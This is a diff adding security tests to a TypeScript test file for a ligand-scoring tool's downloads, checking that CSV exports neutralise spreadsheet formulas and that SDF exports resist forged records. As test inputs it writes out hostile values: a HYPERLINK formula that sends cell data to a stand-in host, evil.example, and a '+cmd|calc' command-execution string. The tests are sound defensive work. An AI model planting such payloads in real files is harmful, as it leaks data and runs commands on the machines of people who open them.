@@ -62,6 +62,30 @@ describe('downloads', () => {
     expect(back[1]!.tags.ligand).toBe('again');
   });
 
+  // Security review (issue 13): a ligand's name is the user's text; exports must not turn it into a formula or a record.
+  it('neutralises formula cells in the CSV of scores, numbers stay numbers', () => {
+    const csv = toCsv(
+      ['ligand', 'affinity_kcal_mol', 'ligand_efficiency'],
+      [
+        ['=HYPERLINK("http://evil.example/?"&A1,"click")', -12.5, '-0.350'],
+        ['@SUM(1+1)', null, '+cmd|calc'],
+      ],
+    );
+    expect(csv.split('\n')[1]).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",-12.5,-0.350`);
+    expect(csv.split('\n')[2]).toBe(`'@SUM(1+1),,'+cmd|calc`);
+  });
+
+  it('keeps a ligand name with a line break and $$$$ inside its own SDF record', () => {
+    const [record] = parseSdf(read('1iep_ligand.sdf'));
+    const forged = 'x\n$$$$\nforged\n\n\n  0  0  0  0  0  0  0  0  0  0999 V2000\nM  END\n> <affinity_kcal_mol>\n-99';
+    const text = toSdf([{ text: record!.text, tags: { ligand: forged, affinity_kcal_mol: -12.5 } }]);
+    const back = parseSdf(text);
+    expect(back).toHaveLength(1);
+    expect(back[0]!.tags.affinity_kcal_mol).toBe('-12.5');
+    expect(back[0]!.tags.ligand).not.toContain('\n');
+    expect(text.match(/^\$\$\$\$$/gm)).toHaveLength(1);
+  });
+
   it('quotes CSV cells that need it', () => {
     expect(
       toCsv(
